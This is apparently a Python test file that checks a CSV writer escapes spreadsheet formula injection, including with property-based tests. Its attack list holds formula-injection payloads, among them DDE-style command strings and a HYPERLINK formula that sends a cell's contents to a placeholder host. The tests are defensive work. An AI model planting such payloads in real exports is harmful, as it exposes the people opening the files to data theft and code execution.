"""CSV opens safely in a spreadsheet program and reads back as it was."""

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clusters.csvfile import csv_text, escape
from tests.support.sources import ROOT, modules

ATTACKS = (
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠x", " =1", "'=1", '"=1', "  '\"=1",
    "\u3000=1", "=none|'none'!A0", "=HYPERLINK(\"http://example.invalid/\"&A1)", "-2+3+none|'none'!A0",
)  # fmt: skip
ANY_TEXT = st.builds(
    str.__add__,
    st.sampled_from(("", "=", "+", "-", "@", "'", "''", '"', " =", "\t", "＝", "　＠")),
    st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00"), max_size=40),
)


def cells_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize("text", ATTACKS)
def test_dangerous_text_is_escaped_in_csv(text: str) -> None:
    assert cells_of(csv_text(("名称",), ((text,),))) == [["名称"], ["'" + text]]


def test_figures_keep_sign_and_digits_and_texts_do_not_become_formulas() -> None:
    text = csv_text(("a", "b"), [("=1+1", -5), ("-x", Decimal("-5.20")), ("@a", Decimal("1E+3")), ("甲,乙", None)])
    assert text == "\ufeffa,b\r\n'=1+1,-5\r\n'-x,-5.20\r\n'@a,1000\r\n\"甲,乙\",\r\n"


@given(ANY_TEXT)
def test_escaped_text_is_the_text_behind_a_quote_at_most(text: str) -> None:
    assert escape(text) in (text, "'" + text)
    assert not escape(text).startswith("=")


@given(st.lists(st.lists(ANY_TEXT, min_size=3, max_size=3), max_size=6))
def test_csv_holds_the_texts_as_they_are_or_escaped(rows: list[list[str]]) -> None:
    written = [[escape(text) for text in row] for row in rows]
    assert cells_of(csv_text(("a", "b", "c"), rows)) == [["a", "b", "c"], *written]


def test_there_is_one_writer_of_csv() -> None:
    sources = {str(path): (ROOT / path).read_text(encoding="utf-8") for path in modules()}
    assert [name for name, text in sources.items() if "csv.writer" in text or "DictWriter" in text] == [
        "clusters/csvfile.py"
    ]
